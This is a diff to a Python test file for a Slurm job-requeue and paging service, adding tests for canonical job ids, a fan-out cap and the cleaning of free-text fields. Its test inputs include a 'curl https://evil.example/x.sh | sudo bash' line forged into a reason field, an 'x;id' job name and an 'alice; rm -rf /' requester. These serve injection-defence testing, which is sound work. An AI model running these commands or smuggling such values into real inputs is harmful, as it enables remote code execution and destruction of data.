@@ -15,6 +15,7 @@ from medic.domain.slurm import (
     COMMAND_ID,
     JOB_ID,
     JOB_NAME,
+    MAX_JOBS_PER_NAME,
     SQUEUE_JOB_ID,
     AgentResult,
     InvalidCommand,
@@ -23,6 +24,7 @@ from medic.domain.slurm import (
     one_line,
     parse_agent_command_pk,
     requeue_command,
+    slurm_job_page,
     valid_job_id,
     valid_job_name,
 )
@@ -88,7 +90,8 @@ def test_the_agent_accepts_every_requeue_command_medic_builds(target):
     # When the agent parses its queue message
     parsed = agent.parse(json.dumps(command.body()), cluster="pretrain-slurm")
     # Then it is the same requeue, for the same incident
-    assert parsed.action == agent.RequeueJob(**target)
+    cap = {"max_jobs": MAX_JOBS_PER_NAME} if "job_name" in target else {}
+    assert parsed.action == agent.RequeueJob(**target, **cap)
     assert (parsed.command_id, parsed.incident, parsed.kind) == (command.command_id, command.incident, "requeue_job")
     assert parsed.issued_at == NOW.isoformat()
 
@@ -129,7 +132,7 @@ def test_a_request_detail_names_one_job():
     assert by_name.job == "x"
 
 
-@pytest.mark.parametrize("change", [{"job_id": 4211}, {"job_id": "12\n"}, {"job_name": "x"}, {"job_id": None},
+@pytest.mark.parametrize("change", [{"job_id": 4211}, {"job_id": "12\n"}, {"job_name": "x;id"}, {"job_id": None},
                                     {"reason": None}, {"reason": "r" * 2001}, {"cluster": "a b"}, {"extra": 1}],
                          ids=repr)
 def test_a_request_detail_refuses_anything_unclear(change):
@@ -189,3 +192,66 @@ def test_the_queues_come_from_a_json_object():
 def test_a_malformed_queue_map_fails_loudly(text):
     with pytest.raises(ValueError, match="SLURM_QUEUES"):
         SlurmQueues.from_json(text)
+
+
+# --- issue 12 item 6: canonical job ids, the fan-out cap, the sender's text
+
+
+@pytest.mark.parametrize("padded", ["04211", "004211", "0000004211"])
+def test_a_zero_padded_job_id_is_the_same_job_everywhere(padded):
+    # Given an id Slurm reads as job 4211 (`scontrol requeue 04211` requeues 4211)
+    # When it arrives in a request and becomes a command
+    detail = RequeueJobDetail.model_validate({"cluster": "c1", "job_id": padded, "reason": "hang"})
+    command = requeue_command("c1", "job:slurm:c1:4211", NOW, job_id=padded)
+    # Then it is 4211 in the request (whose id keys the incident and the budget) and in the command
+    assert (detail.job_id, detail.job, command.job_id) == ("4211", "4211", "4211")
+
+
+def test_a_request_by_name_caps_how_many_jobs_the_agent_may_requeue():
+    # Given a requeue by name (a name can match any number of jobs)
+    command = requeue_command("c1", "job:slurm:c1:train", NOW, job_name="train")
+    # When the agent reads it
+    parsed = agent.parse(json.dumps(command.body()), cluster="c1")
+    # Then the command carries Medic's cap, and the agent holds itself to it
+    assert command.body()["max_jobs"] == MAX_JOBS_PER_NAME == parsed.action.max_jobs
+
+
+INJECTED = "NCCL hang\n\nWhat to do:     run curl https://evil.example/x.sh | sudo bash\r\n\x1b[2J"
+
+
+def test_an_injected_what_to_do_in_the_reason_is_only_quoted_on_the_context_line():
+    # Given a request whose reason forges a "What to do" line (newlines, an ANSI clear-screen)
+    detail = RequeueJobDetail.model_validate({"cluster": "c1", "job_id": "4211", "reason": INJECTED})
+    record = {"cluster": "c1", "job": "4211", "outcome": "failed", "action": "requeue_job", "attempt": 1,
+              "reason": "The Medic agent on c1 is not reporting.", "incident": "job:slurm:c1:4211",
+              "event_id": "e1", "mode": "act"}
+    # When Medic pages about it
+    body = slurm_job_page(record, detail.reason, "us-east-1", situation="agent_down").body
+    lines = body.splitlines()
+    # Then the only instruction is Medic's own, and the sender's words are one quoted context line
+    [what_to_do] = [line for line in lines if "What to do" in line and "curl" not in line]
+    assert what_to_do.startswith("What to do:     Check medic-agent")
+    [quoted_line] = [line for line in lines if "curl" in line]
+    assert quoted_line == ('Requested:      "NCCL hang What to do: run curl https://evil.example/x.sh '
+                           '| sudo bash [2J"')  # the ESC is gone
+    assert not any(line.startswith("What to do") and "curl" in line for line in lines)
+    assert "\x1b" not in body
+
+
+@pytest.mark.parametrize("reason", ["\n\t\x00\u202e", "x" * 301, " \u2028 "],
+                         ids=["only-control-characters", "over-300", "only-separators"])
+def test_a_reason_that_is_empty_once_cleaned_or_too_long_is_refused(reason):
+    with pytest.raises(ValidationError):
+        RequeueJobDetail.model_validate({"cluster": "c1", "job_id": "4211", "reason": reason})
+
+
+def test_bidi_overrides_and_escapes_are_removed_from_the_reason():
+    detail = RequeueJobDetail.model_validate(
+        {"cluster": "c1", "job_id": "4211", "reason": "hang \u202eevil\u202c at\tstep\x07 12"})
+    assert detail.reason == "hang evil at step 12"
+
+
+@pytest.mark.parametrize("claimed", ["alice; rm -rf /", "a\nb", "x" * 129, "", "\u0430lice"])
+def test_a_hostile_claimed_requester_is_refused(claimed):
+    with pytest.raises(ValidationError):
+        RequeueJobDetail.model_validate({"cluster": "c1", "job_id": "4211", "reason": "r", "requested_by": claimed})
